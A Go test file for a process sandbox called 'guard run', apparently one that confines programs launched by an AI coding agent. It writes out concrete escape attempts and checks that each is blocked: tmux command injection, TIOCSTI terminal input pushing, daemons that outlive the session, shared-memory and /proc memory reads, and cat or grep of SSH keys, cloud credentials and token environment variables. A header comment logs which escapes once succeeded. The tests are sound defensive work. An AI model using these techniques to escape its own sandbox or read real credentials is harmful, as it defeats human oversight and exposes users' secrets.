// Copyright 2026 The guard Authors. SPDX-License-Identifier: MIT

package main

// The jail's doors (issue 21, "A jail with no open doors"). Each test runs
// one real attack twice: as a plain process, where it must work (else the
// test skips and says why: a door this machine does not have proves
// nothing), and under guard run, the guard guardExe builds
// (guardbin_test.go), where it must fail. Every run has a throwaway project and home
// under t.TempDir(); what an attack reaches "outside" is the test's own:
// its socket, its tmux server on its own -S path, its shm segment, its pty,
// its sleep. A confined script first echoes jailRan, so that a guard run
// that starts nothing never passes a test.
//
// Against guard run as of 57c3749 (Landlock ABI 6, seccomp, a network
// namespace; no jail yet), on Linux 6.18 as root, go test -run TestJail -v
// (also with -race) gave:
//
//	TestJailUnixSockets        FAIL: the pathname sockets outside the project and in the home
//	                           take the connection ("connected b'hello\n'", exit 0); the
//	                           abstract one does not (the network namespace)
//	TestJailTmux               FAIL: tmux -S SOCK new-window 'touch MARKER' exits 0 and the
//	                           server outside makes MARKER
//	TestJailTerminal/TIOCSTI   FAIL: "TIOCSTI: done", and the byte is in the pty's input queue
//	TestJailTerminal/TIOCLINUX SKIP: unconfined, ENOTTY: a pty takes no TIOCLINUX
//	TestJailDaemon             FAIL: the setsid, nohup and signal-ignoring daemons all write
//	                           their mark after guard run returned
//	TestJailSysVShm            FAIL: ipcs -m lists the segment; attaching by key and by id reads
//	                           "guard-shm-secret"
//	TestJailEnv                FAIL: GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY, ANTHROPIC_API_KEY,
//	                           FOO_TOKEN, MY_PASSWORD and SSH_AUTH_SOCK are all set inside
//	TestJailCapabilities       FAIL: CapPrm, CapEff and CapBnd 000001fffeffffff inside (root
//	                           keeps them; NoNewPrivs is 1); mknod of a block device (b 7 0)
//	                           and of a character device (c 1 1) in src/ exit 0
//	TestJailOtherProcesses     FAIL on "see it": /proc/PID of the sleep outside exists; kill -0,
//	                           its environ and its mem are refused
//	TestJailListenerInside     PASS (the network namespace)
//	TestJailSecretsOnDisk      FAIL on git status: exit 128, "warning: unable to access
//	                           '.../home/.gitconfig': Permission denied", "fatal: unknown error
//	                           occurred while reading the configuration files"; cat and grep
//	                           print no secret
//	TestJailKeptPaths          FAIL on the ordinary new file at the project's top (echo x >
//	                           coverage.out: Permission denied), both variants; every attack on
//	                           a kept path fails ("present/mkdir .claude" skips: mkdir of an
//	                           existing directory changes nothing unconfined either)
//	TestJailChain              FAIL: guard run --profile test exits 125, 'the policy has no
//	                           sandbox profile "test"'; go test does not run. (With no
//	                           --profile, the test's read of the key and write of .bashrc are
//	                           refused.)
//
// Root (door 13): no test skips for being root; CI runs them as root, where
// a door that holds for a user but not for root is found.

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// jailRan is the first line a confined script prints: guard run started
// it, so its attack failed in the jail, not for want of a jail.
const jailRan = "guard-jail-ran"

// python is the system's Python: a home's shims are not for the jail.
const python = "/usr/bin/python3"

// jail is a throwaway project and home, a temp dir, and a directory
// outside all three, for one test's runs.
type jail struct {
	proj, home, tmp, outside string
}

// newJail makes a jail's directories and writes files into them, each
// named from the jail's root: "proj/.env", "home/.ssh/id_rsa". It skips
// the test where guard run refuses to start any program.
func newJail(t *testing.T, files map[string]string) jail {
	t.Helper()
	if why := jailProbe(); why != "" {
		t.Skip(why)
	}
	root := t.TempDir()
	j := jail{proj: filepath.Join(root, "proj"), home: filepath.Join(root, "home"), tmp: filepath.Join(root, "tmp"),
		outside: filepath.Join(root, "outside")}
	for _, d := range []string{j.proj, j.home, j.tmp, j.outside} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	writeFiles(t, root, files, 0o600)
	return j
}

// writeFiles writes files under root, each named from it, with the
// permissions perm, making their directories.
func writeFiles(t *testing.T, root string, files map[string]string, perm os.FileMode) {
	t.Helper()
	for name, data := range files {
		p := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), perm); err != nil {
			t.Fatal(err)
		}
	}
}

// jailProbe runs guard run -- true once, and returns why no test here can
// run when guard run refuses to start a program (exit runFailed: the
// kernel cannot confine it), or "".
var jailProbe = sync.OnceValue(func() string {
	dir, err := os.MkdirTemp("", "guard-jail-probe")
	if err != nil {
		return ""
	}
	defer os.RemoveAll(dir)
	j := jail{proj: filepath.Join(dir, "proj"), home: filepath.Join(dir, "home"), tmp: filepath.Join(dir, "tmp")}
	for _, d := range []string{j.proj, j.home, j.tmp} {
		if err := os.Mkdir(d, 0o755); err != nil {
			return ""
		}
	}
	cmd, cancel := j.guard(nil, "--", "true")
	defer cancel()
	out, err := cmd.CombinedOutput()
	if ee, ok := err.(*exec.ExitError); ok && ee.ExitCode() == runFailed {
		return fmt.Sprintf("guard run starts no program on this machine: %s", bytes.TrimSpace(out))
	}
	return ""
})

// env is the environment of both runs: the jail's home and temp dir, the
// system's programs, and extra.
func (j jail) env(extra []string) []string {
	return append([]string{"HOME=" + j.home, "TMPDIR=" + j.tmp, "PATH=/usr/local/bin:/usr/bin:/bin", "LC_ALL=C"}, extra...)
}

// guard returns guard run with args over the jail's project, in its
// environment plus extra, bounded by hookProcessWait.
func (j jail) guard(extra []string, args ...string) (*exec.Cmd, context.CancelFunc) {
	ctx, cancel := context.WithTimeout(context.Background(), hookProcessWait)
	cmd := exec.CommandContext(ctx, guardExe(), append([]string{"run", "--cwd", j.proj}, args...)...)
	cmd.Args[0] = "guard"
	cmd.Dir, cmd.Env = j.proj, j.env(extra)
	cmd.WaitDelay = 10 * time.Second // a process left holding the output does not hang the test
	return cmd, cancel
}

// plain returns argv as a plain process in the jail's project, in its
// environment plus extra.
func (j jail) plain(extra []string, argv ...string) (*exec.Cmd, context.CancelFunc) {
	ctx, cancel := context.WithTimeout(context.Background(), hookProcessWait)
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	cmd.Dir, cmd.Env = j.proj, j.env(extra)
	cmd.WaitDelay = 10 * time.Second
	return cmd, cancel
}

// outcome runs cmd and returns its exit code and its output.
func outcome(t *testing.T, cmd *exec.Cmd, cancel context.CancelFunc) (int, string) {
	t.Helper()
	defer cancel()
	var out bytes.Buffer
	if cmd.Stdout == nil {
		cmd.Stdout = &out
	}
	if cmd.Stderr == nil {
		cmd.Stderr = &out
	}
	err := cmd.Run()
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		return ee.ExitCode(), out.String()
	}
	if err != nil {
		t.Fatalf("%s: %v: %s", cmd.Args[0], err, out.String())
	}
	return 0, out.String()
}

// bashPlain runs a script in bash as a plain process.
func (j jail) bashPlain(t *testing.T, extra []string, script string) (int, string) {
	t.Helper()
	cmd, cancel := j.plain(extra, "bash", "--noprofile", "--norc", "-c", script)
	return outcome(t, cmd, cancel)
}

// bashJailed runs a script in bash under guard run, with args before the
// "--", and fails the test unless guard run started it. The output is
// without jailRan's line.
func (j jail) bashJailed(t *testing.T, extra []string, script string, args ...string) (int, string) {
	t.Helper()
	args = append(args, "--", "bash", "--noprofile", "--norc", "-c", "echo "+jailRan+"\n"+script)
	cmd, cancel := j.guard(extra, args...)
	code, out := outcome(t, cmd, cancel)
	if !strings.Contains(out, jailRan+"\n") {
		t.Fatalf("guard run did not start the script: exit %d: %s", code, out)
	}
	return code, strings.Replace(out, jailRan+"\n", "", 1)
}

// needPython skips the test where the system has no Python.
func needPython(t *testing.T) {
	t.Helper()
	if _, err := os.Stat(python); err != nil {
		t.Skipf("no %s, which the attack is written in: %v", python, err)
	}
}

// eventually reports whether path exists within d.
func eventually(path string, d time.Duration) bool {
	for end := time.Now().Add(d); ; time.Sleep(50 * time.Millisecond) {
		if _, err := os.Lstat(path); err == nil {
			return true
		}
		if time.Now().After(end) {
			return false
		}
	}
}

// TestJailUnixSockets: a Unix socket listening outside the project (a
// pathname one in a directory of the test's, one in the home, an abstract
// one) takes no connection from inside.
func TestJailUnixSockets(t *testing.T) {
	needPython(t)
	j := newJail(t, nil)
	connect := `import socket, sys
a = sys.argv[1]
s = socket.socket(socket.AF_UNIX)
s.connect('\0' + a[1:] if a.startswith('@') else a)
print('connected', s.recv(16))`
	for _, tc := range []struct{ name, addr string }{
		{"outside the project", filepath.Join(j.outside, "s.sock")},
		{"in the home", filepath.Join(j.home, ".agent.sock")},
		{"abstract", fmt.Sprintf("@guard-test-%d-%d", os.Getpid(), time.Now().UnixNano())},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Logf("socket: %s", tc.addr)
			ln, err := net.Listen("unix", tc.addr)
			if err != nil {
				t.Fatalf("listening: %v", err)
			}
			defer ln.Close()
			var accepted atomic.Int32
			go func() {
				for {
					c, err := ln.Accept()
					if err != nil {
						return
					}
					accepted.Add(1)
					c.Write([]byte("hello\n"))
					c.Close()
				}
			}()
			cmd, cancel := j.plain(nil, python, "-c", connect, tc.addr)
			if code, out := outcome(t, cmd, cancel); code != 0 || accepted.Load() != 1 {
				t.Skipf("unconfined, the connect fails too: exit %d: %s", code, out)
			}
			cmd, cancel = j.guard(nil, "--", "bash", "--noprofile", "--norc", "-c", "echo "+jailRan+"; exec \"$@\"", "bash", python, "-c", connect, tc.addr)
			code, out := outcome(t, cmd, cancel)
			if !strings.Contains(out, jailRan) {
				t.Fatalf("guard run did not start the program: exit %d: %s", code, out)
			}
			if code == 0 || accepted.Load() != 1 || strings.Contains(out, "connected") {
				t.Errorf("connected from inside: exit %d, %d connections in all: %s", code, accepted.Load(), out)
			}
		})
	}
}

// TestJailTmux: a tmux server of the test's, on a socket outside the
// project, runs no command for a client inside.
func TestJailTmux(t *testing.T) {
	tmux, err := exec.LookPath("tmux")
	if err != nil {
		t.Skip("no tmux")
	}
	j := newJail(t, nil)
	sock := filepath.Join(j.outside, "tmux.sock")
	marker := filepath.Join(j.outside, "tmux-ran")
	server := exec.Command(tmux, "-S", sock, "-f", "/dev/null", "new-session", "-d", "-s", "guard-test")
	server.Env = j.env([]string{"SHELL=/bin/sh", "TERM=xterm"})
	if out, err := server.CombinedOutput(); err != nil {
		t.Skipf("starting a tmux server: %v: %s", err, out)
	}
	t.Cleanup(func() {
		kill := exec.Command(tmux, "-S", sock, "kill-server")
		kill.Env = server.Env
		kill.Run()
	})
	attack := "tmux -S " + sock + " new-window 'touch " + marker + "'"
	extra := []string{"SHELL=/bin/sh", "TERM=xterm"}
	if code, out := j.bashPlain(t, extra, attack); code != 0 || !eventually(marker, 10*time.Second) {
		t.Skipf("unconfined, the tmux server does not run the command either: exit %d: %s", code, out)
	}
	if err := os.Remove(marker); err != nil {
		t.Fatal(err)
	}
	code, out := j.bashJailed(t, extra, attack)
	if eventually(marker, 2*time.Second) {
		t.Errorf("the tmux server outside ran a command from inside (exit %d): %s", code, out)
	} else if code == 0 {
		t.Errorf("tmux new-window exited 0, and nothing ran: %s", out)
	}
}

// TestJailTerminal: the confined program cannot push input into the
// terminal it was given (TIOCSTI), nor paste into it (TIOCLINUX), where the
// agent's shell would read it as typed. The test's own pty stands in for
// the terminal: its slave is guard run's stdin, stdout and controlling
// terminal; a byte pushed in would wait in the slave's input queue and be
// echoed to the master.
func TestJailTerminal(t *testing.T) {
	needPython(t)
	j := newJail(t, nil)
	for _, tc := range []struct{ name, call string }{
		{"TIOCSTI", "fcntl.ioctl(0, termios.TIOCSTI, b'Z')"},
		{"TIOCLINUX", "fcntl.ioctl(0, 0x541C, bytes([3]))"}, // TIOCL_PASTESEL: paste the console's selection
	} {
		t.Run(tc.name, func(t *testing.T) {
			script := "import fcntl, sys, termios\ntry:\n    " + tc.call + "\nexcept OSError as e:\n    sys.exit('" + tc.name + ": %s' % e)\nprint('" + tc.name + ": done', file=sys.stderr)"
			injected := func(argv []string, guard bool) (bool, string) {
				master, slave := openPTY(t)
				var cmd *exec.Cmd
				var cancel context.CancelFunc
				if guard {
					cmd, cancel = j.guard(nil, append([]string{"--"}, argv...)...)
				} else {
					cmd, cancel = j.plain(nil, argv...)
				}
				var stderr bytes.Buffer
				cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, &stderr
				cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
				code, _ := outcome(t, cmd, cancel)
				report := fmt.Sprintf("exit %d: %s", code, stderr.String())
				if n, err := unix.IoctlGetInt(int(slave.Fd()), unix.TIOCINQ); err != nil {
					t.Fatalf("the pty's input queue: %v", err)
				} else if n > 0 {
					return true, report
				}
				return bytes.ContainsRune(readPTY(t, master, 500*time.Millisecond), 'Z'), report
			}
			if ok, report := injected([]string{python, "-c", script}, false); !ok {
				why := "unconfined, nothing reaches the terminal either"
				if b, err := os.ReadFile("/proc/sys/dev/tty/legacy_tiocsti"); err == nil && strings.TrimSpace(string(b)) == "0" {
					why += " (sysctl dev.tty.legacy_tiocsti = 0)"
				}
				if tc.name == "TIOCLINUX" {
					why += " (only a virtual console takes TIOCLINUX; a test may not use a real one)"
				}
				t.Skipf("%s: %s", why, report)
			}
			ok, report := injected([]string{"bash", "--noprofile", "--norc", "-c", "echo " + jailRan + " >&2; exec \"$@\"", "bash", python, "-c", script}, true)
			if !strings.Contains(report, jailRan) {
				t.Fatalf("guard run did not start the program: %s", report)
			}
			if ok {
				t.Errorf("a byte from inside reached the terminal's input: %s", report)
			}
		})
	}
}

// openPTY opens a pty pair, the slave without line editing (a pushed byte
// is counted in its queue at once) and with echo (it reaches the master).
func openPTY(t *testing.T) (master, slave *os.File) {
	t.Helper()
	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Skipf("no pseudo-terminals: %v", err)
	}
	t.Cleanup(func() { m.Close() })
	if err := unix.IoctlSetPointerInt(int(m.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		t.Fatalf("unlocking the pty: %v", err)
	}
	n, err := unix.IoctlGetUint32(int(m.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Fatalf("the pty's number: %v", err)
	}
	s, err := os.OpenFile("/dev/pts/"+strconv.FormatUint(uint64(n), 10), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Fatalf("the pty's slave: %v", err)
	}
	t.Cleanup(func() { s.Close() })
	tio, err := unix.IoctlGetTermios(int(s.Fd()), unix.TCGETS)
	if err != nil {
		t.Fatal(err)
	}
	tio.Lflag &^= unix.ICANON
	tio.Lflag |= unix.ECHO
	if err := unix.IoctlSetTermios(int(s.Fd()), unix.TCSETS, tio); err != nil {
		t.Fatal(err)
	}
	return m, s
}

// readPTY returns what the master has to read within d.
func readPTY(t *testing.T, master *os.File, d time.Duration) []byte {
	t.Helper()
	var got []byte
	fd := int(master.Fd())
	for end := time.Now().Add(d); time.Now().Before(end); {
		fds := []unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}
		n, err := unix.Poll(fds, int(time.Until(end)/time.Millisecond)+1)
		if errors.Is(err, unix.EINTR) {
			continue
		}
		if err != nil || n == 0 || fds[0].Revents&unix.POLLIN == 0 {
			break
		}
		buf := make([]byte, 256)
		k, err := unix.Read(fd, buf)
		if k <= 0 || err != nil {
			break
		}
		got = append(got, buf[:k]...)
	}
	return got
}

// TestJailDaemon: a process that leaves the confined program's session or
// ignores its hangup does not outlive guard run. Each daemon waits for the
// test's go-ahead, a file the test makes in the project once guard run has
// returned, then writes there too; a daemon the jail ended writes nothing.
// The go-ahead, not a clock, orders the two: a slow guard run (a -race
// build, a loaded machine) passes nothing it should not.
func TestJailDaemon(t *testing.T) {
	j := newJail(t, map[string]string{"proj/src/main.go": "package main\n"})
	// wait waits up to 10 s for the go-ahead, then writes src/ran-NAME.
	wait := func(name string) string {
		return "i=0; while [ ! -e src/go ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i+1)); done; [ -e src/go ] && touch src/ran-" + name
	}
	daemons := []struct{ name, script string }{
		{"setsid", "setsid sh -c '" + wait("setsid") + "' </dev/null >/dev/null 2>&1 &"},
		{"nohup", "nohup sh -c '" + wait("nohup") + "' </dev/null >/dev/null 2>&1 &"},
		{"trap", "( trap '' HUP TERM INT; sh -c '" + wait("trap") + "' </dev/null >/dev/null 2>&1 & )"}, // ignored, the signals stay ignored in sh
	}
	var script []string
	for _, d := range daemons {
		script = append(script, d.script)
	}
	goAhead := filepath.Join(j.proj, "src", "go")
	marker := func(name string) string { return filepath.Join(j.proj, "src", "ran-"+name) }
	code, out := j.bashPlain(t, nil, strings.Join(script, "\n"))
	if err := os.WriteFile(goAhead, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, d := range daemons {
		if !eventually(marker(d.name), 10*time.Second) {
			t.Skipf("unconfined, the daemon %s wrote nothing either: exit %d: %s", d.name, code, out)
		}
	}
	for _, d := range daemons {
		if err := os.Remove(marker(d.name)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Remove(goAhead); err != nil {
		t.Fatal(err)
	}
	code, out = j.bashJailed(t, nil, strings.Join(script, "\n"))
	if err := os.WriteFile(goAhead, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	time.Sleep(2 * time.Second) // twenty times a live daemon's poll
	for _, d := range daemons {
		if _, err := os.Lstat(marker(d.name)); err == nil {
			t.Errorf("the daemon %s outlived guard run and wrote %s (guard run: exit %d: %s)", d.name, marker(d.name), code, out)
		}
	}
}

// TestJailSysVShm: a System V shared memory segment of the test's, with a
// key of its own, is neither listed nor attached from inside.
func TestJailSysVShm(t *testing.T) {
	j := newJail(t, nil)
	const secret = "guard-shm-secret"
	key, id := 0, -1
	for i := range 16 {
		key = 0x67750000 | (os.Getpid()+i)&0xffff
		var err error
		id, err = unix.SysvShmGet(key, 4096, unix.IPC_CREAT|unix.IPC_EXCL|0o600)
		if err == nil {
			break
		}
		if !errors.Is(err, unix.EEXIST) {
			t.Skipf("no System V shared memory here: %v", err)
		}
	}
	if id < 0 {
		t.Fatalf("no free key near %#x", key)
	}
	t.Cleanup(func() { unix.SysvShmCtl(id, unix.IPC_RMID, nil) })
	mem, err := unix.SysvShmAttach(id, 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	copy(mem, secret)
	if err := unix.SysvShmDetach(mem); err != nil {
		t.Fatal(err)
	}
	t.Logf("segment: key %#08x, id %d", key, id)
	attach := `import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
v = int(sys.argv[2])
id = libc.shmget(v, 0, 0) if sys.argv[1] == 'key' else v
if id < 0:
    sys.exit('shmget: ' + os.strerror(ctypes.get_errno()))
addr = libc.shmat(id, None, 0o10000)
if addr is None or addr == ctypes.c_void_p(-1).value:
    sys.exit('shmat: ' + os.strerror(ctypes.get_errno()))
print('read', ctypes.string_at(addr, 16))`
	for _, tc := range []struct {
		name, tool, script, shows string
	}{
		{"ipcs lists it", "ipcs", "ipcs -m", fmt.Sprintf("0x%08x", key)},
		{"attach by key", python, python + " -c \"$1\" key " + strconv.Itoa(key), secret},
		{"attach by id", python, python + " -c \"$1\" id " + strconv.Itoa(id), secret},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := exec.LookPath(tc.tool); err != nil {
				t.Skipf("no %s", tc.tool)
			}
			script := "set -- " + shellQuote(attach) + "\n" + tc.script
			if _, out := j.bashPlain(t, nil, script); !strings.Contains(out, tc.shows) {
				t.Skipf("unconfined, %q does not show the segment either: %s", tc.script, out)
			}
			if code, out := j.bashJailed(t, nil, script); strings.Contains(out, tc.shows) {
				t.Errorf("inside, %q shows the segment outside (exit %d): %s", tc.script, code, out)
			}
		})
	}
}

// TestJailEnv: the variables that hold secrets, or reach an agent's keys,
// in guard run's environment are not in the confined program's; the
// program's search path, its home and ordinary variables are.
func TestJailEnv(t *testing.T) {
	j := newJail(t, nil)
	const secret = "guard-env-secret"
	hidden := []string{"GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "ANTHROPIC_API_KEY", "FOO_TOKEN", "MY_PASSWORD", "SSH_AUTH_SOCK"}
	extra := []string{"FOO=bar"}
	for _, name := range hidden {
		extra = append(extra, name+"="+secret)
	}
	if _, out := j.bashPlain(t, extra, "env"); strings.Count(out, secret) != len(hidden) {
		t.Skipf("unconfined, env does not show the variables either: %s", out)
	}
	code, out := j.bashJailed(t, extra, "env")
	if code != 0 {
		t.Fatalf("env: exit %d: %s", code, out)
	}
	lines := strings.Split(out, "\n")
	has := func(prefix string) bool {
		for _, l := range lines {
			if strings.HasPrefix(l, prefix) {
				return true
			}
		}
		return false
	}
	for _, name := range hidden {
		if has(name + "=") {
			t.Errorf("%s is set inside", name)
		}
	}
	if strings.Contains(out, secret) {
		t.Errorf("a secret's value is inside:\n%s", out)
	}
	for _, want := range []string{"PATH=", "HOME=", "FOO=bar"} {
		if !has(want) {
			t.Errorf("no %s inside:\n%s", want, out)
		}
	}
}

// TestJailCapabilities: the confined program holds no capability, cannot
// gain one (no_new_privs), and cannot make a device, also when guard run
// runs as root.
func TestJailCapabilities(t *testing.T) {
	j := newJail(t, map[string]string{"proj/src/main.go": "package main\n"})
	status := func(out string) map[string]string {
		m := map[string]string{}
		for _, l := range strings.Split(out, "\n") {
			if k, v, ok := strings.Cut(l, ":"); ok {
				m[k] = strings.TrimSpace(v)
			}
		}
		return m
	}
	fields := []string{"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"}
	const none = "0000000000000000"
	t.Run("status", func(t *testing.T) {
		_, out := j.bashPlain(t, nil, "cat /proc/self/status")
		plain := status(out)
		if plain["CapBnd"] == none && plain["CapEff"] == none && plain["NoNewPrivs"] == "1" {
			t.Skipf("unconfined, the process holds no capability and may gain none either: %v", plain)
		}
		code, out := j.bashJailed(t, nil, "cat /proc/self/status")
		in := status(out)
		if code != 0 || in["CapBnd"] == "" {
			t.Fatalf("cat /proc/self/status: exit %d: %s", code, out)
		}
		for _, f := range fields {
			if in[f] != none {
				t.Errorf("%s %s inside (unconfined: %s)", f, in[f], plain[f])
			}
		}
		if in["NoNewPrivs"] != "1" {
			t.Errorf("NoNewPrivs %s inside", in["NoNewPrivs"])
		}
	})
	for _, tc := range []struct{ name, script, node string }{
		{"mknod a block device", "mknod src/blk b 7 0", "src/blk"},     // a loop device
		{"mknod a character device", "mknod src/mem c 1 1", "src/mem"}, // /dev/mem
	} {
		t.Run(tc.name, func(t *testing.T) {
			node := filepath.Join(j.proj, tc.node)
			if code, out := j.bashPlain(t, nil, tc.script); code != 0 {
				t.Skipf("unconfined, mknod fails too (uid %d): %s", os.Getuid(), out)
			}
			if err := os.Remove(node); err != nil {
				t.Fatal(err)
			}
			code, out := j.bashJailed(t, nil, tc.script)
			if _, err := os.Lstat(node); code == 0 || err == nil {
				os.Remove(node)
				t.Errorf("%s inside: exit %d: %s", tc.script, code, out)
			}
		})
	}
}

// TestJailOtherProcesses: a process outside, the test's own sleep, is not
// signalled, read or seen from inside.
func TestJailOtherProcesses(t *testing.T) {
	j := newJail(t, nil)
	const mark = "guard-sleeper-secret"
	sleeper := exec.Command("sleep", "60")
	sleeper.Env = []string{"GUARD_SLEEPER=" + mark}
	if err := sleeper.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { sleeper.Process.Kill(); sleeper.Wait() })
	pid := strconv.Itoa(sleeper.Process.Pid)
	maps, err := os.ReadFile("/proc/" + pid + "/maps")
	if err != nil {
		t.Fatal(err)
	}
	start, _, _ := strings.Cut(string(maps), "-")
	addr, err := strconv.ParseUint(start, 16, 64)
	if err != nil {
		t.Fatalf("the sleeper's first mapping: %q: %v", start, err)
	}
	mem := python + " -c \"f = open('/proc/" + pid + "/mem', 'rb'); f.seek(" + strconv.FormatUint(addr, 10) + "); print('mem', f.read(4).hex())\""
	for _, tc := range []struct{ name, script, shows string }{
		{"signal it", "kill -0 " + pid + " && echo signalled", "signalled"},
		{"see it", "test -e /proc/" + pid + " && echo seen", "seen"},
		{"read its environment", "cat /proc/" + pid + "/environ", mark},
		{"read its memory", mem, "mem 7f454c46"}, // its executable's ELF header
	} {
		t.Run(tc.name, func(t *testing.T) {
			if strings.HasPrefix(tc.script, python) {
				needPython(t)
			}
			if _, out := j.bashPlain(t, nil, tc.script); !strings.Contains(out, tc.shows) {
				t.Skipf("unconfined, %q fails too: %s", tc.script, out)
			}
			if code, out := j.bashJailed(t, nil, tc.script); strings.Contains(out, tc.shows) {
				t.Errorf("inside, %q reached the process outside (exit %d): %s", tc.script, code, out)
			}
		})
	}
}

// TestJailListenerInside: a server the confined program starts (on the
// loopback, on every address by listen() without bind(), on an abstract
// Unix socket) takes no connection from outside.
func TestJailListenerInside(t *testing.T) {
	needPython(t)
	j := newJail(t, nil)
	serve := `import select, socket, sys
ls = {}
a = socket.socket(); a.bind(('127.0.0.1', 0)); a.listen(); ls[a] = 'bound'
b = socket.socket(); b.listen(); ls[b] = 'unbound'
u = socket.socket(socket.AF_UNIX); u.bind('\0' + sys.argv[1]); u.listen(); ls[u] = 'abstract'
print('ports', a.getsockname()[1], b.getsockname()[1], flush=True)
while True:
    r, _, _ = select.select(list(ls) + [sys.stdin], [], [], 30)
    if not r or sys.stdin in r:
        break
    for s in r:
        c, _ = s.accept(); print('accepted', ls[s], flush=True); c.close()`
	abstract := fmt.Sprintf("guard-test-%d-%d", os.Getpid(), time.Now().UnixNano())
	// attack starts the server and connects to each of its listeners; it
	// returns what connected and the server's output.
	attack := func(guard bool) (connected []string, out string) {
		t.Helper()
		argv := []string{python, "-c", serve, abstract}
		var cmd *exec.Cmd
		var cancel context.CancelFunc
		if guard {
			cmd, cancel = j.guard(nil, append([]string{"--"}, argv...)...)
		} else {
			cmd, cancel = j.plain(nil, argv...)
		}
		defer cancel()
		stdin, err := cmd.StdinPipe()
		if err != nil {
			t.Fatal(err)
		}
		stdout, err := cmd.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		first := make(chan string, 1)
		rest := make(chan string, 1)
		go func() {
			r := bufio.NewReader(stdout)
			line, _ := r.ReadString('\n')
			first <- line
			b, _ := io.ReadAll(r)
			rest <- string(b)
		}()
		var line string
		select {
		case line = <-first:
		case <-time.After(hookProcessWait): // guard run is killed then
		}
		var ports []string
		if f := strings.Fields(line); len(f) == 3 && f[0] == "ports" {
			ports = f[1:]
		}
		for i, p := range ports {
			if c, err := net.DialTimeout("tcp", "127.0.0.1:"+p, 2*time.Second); err == nil {
				c.Close()
				connected = append(connected, []string{"bound", "unbound"}[i])
			}
		}
		if len(ports) > 0 {
			if c, err := net.DialTimeout("unix", "@"+abstract, 2*time.Second); err == nil {
				c.Close()
				connected = append(connected, "abstract")
			}
			time.Sleep(200 * time.Millisecond) // for the server to report what it accepted
		}
		stdin.Close()
		err = cmd.Wait()
		out = line
		select {
		case s := <-rest:
			out += s
		case <-time.After(hookProcessWait): // a bound, not a speed goal
		}
		out += stderr.String()
		if len(ports) == 0 {
			t.Fatalf("the server did not start (guard run %v): %v: %s", guard, err, out)
		}
		return connected, out
	}
	if connected, out := attack(false); len(connected) != 3 {
		t.Skipf("unconfined, only %v of the listeners take a connection: %s", connected, out)
	}
	if connected, out := attack(true); len(connected) > 0 || strings.Contains(out, "accepted") {
		t.Errorf("connected from outside to the listeners inside: %v: %s", connected, out)
	}
}

// TestJailSecretsOnDisk: the project's .env and the home's keys are not
// printed by cat or grep inside, while git status in a home with a
// .gitconfig works (it once did not: the jail hid the file and git
// refused to run).
func TestJailSecretsOnDisk(t *testing.T) {
	j := newJail(t, map[string]string{
		"proj/.env":             "API_KEY=guard-secret-env\n",
		"proj/src/main.go":      "package main\n",
		"home/.ssh/id_rsa":      "-----BEGIN OPENSSH PRIVATE KEY-----\nguard-secret-ssh\n",
		"home/.aws/credentials": "[default]\naws_secret_access_key = guard-secret-aws\n",
		"home/.gitconfig":       "[user]\n\tname = Jail Test\n\temail = jail@example.com\n[alias]\n\tst = status\n",
	})
	secrets := []string{"guard-secret-env", "guard-secret-ssh", "guard-secret-aws"}
	for _, tc := range []struct{ name, script string }{
		{"cat the project's .env", "cat .env"},
		{"cat the key in the home", "cat ~/.ssh/id_rsa"},
		{"cat the cloud credentials", "cat ~/.aws/credentials"},
		{"grep the project", "grep -rn guard-secret ."},
		{"grep the home", "grep -rn guard-secret ~"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, out := j.bashPlain(t, nil, tc.script)
			if !strings.Contains(out, "guard-secret-") {
				t.Skipf("unconfined, %q prints no secret either: %s", tc.script, out)
			}
			code, out := j.bashJailed(t, nil, tc.script)
			for _, s := range secrets {
				if strings.Contains(out, s) {
					t.Errorf("inside, %q printed %s (exit %d): %s", tc.script, s, code, out)
				}
			}
		})
	}
	// A search of the tree finds what is outside the secrets, as it would:
	// the secret shows empty, and grep does not stop at it.
	t.Run("grep finds the rest", func(t *testing.T) {
		code, out := j.bashJailed(t, nil, "echo 'key := \"guard-secret-name\"' > src/k.go && grep -rn guard-secret .")
		if code != 0 || strings.TrimSpace(out) != `./src/k.go:1:key := "guard-secret-name"` {
			t.Errorf("grep -rn in the project: exit %d: %s", code, out)
		}
	})
	t.Run("git status with a .gitconfig", func(t *testing.T) {
		if _, err := exec.LookPath("git"); err != nil {
			t.Skip("no git")
		}
		if code, out := j.bashPlain(t, []string{"GIT_CONFIG_NOSYSTEM=1"}, "git init -q && git status --short"); code != 0 {
			t.Skipf("unconfined, git status fails too: exit %d: %s", code, out)
		}
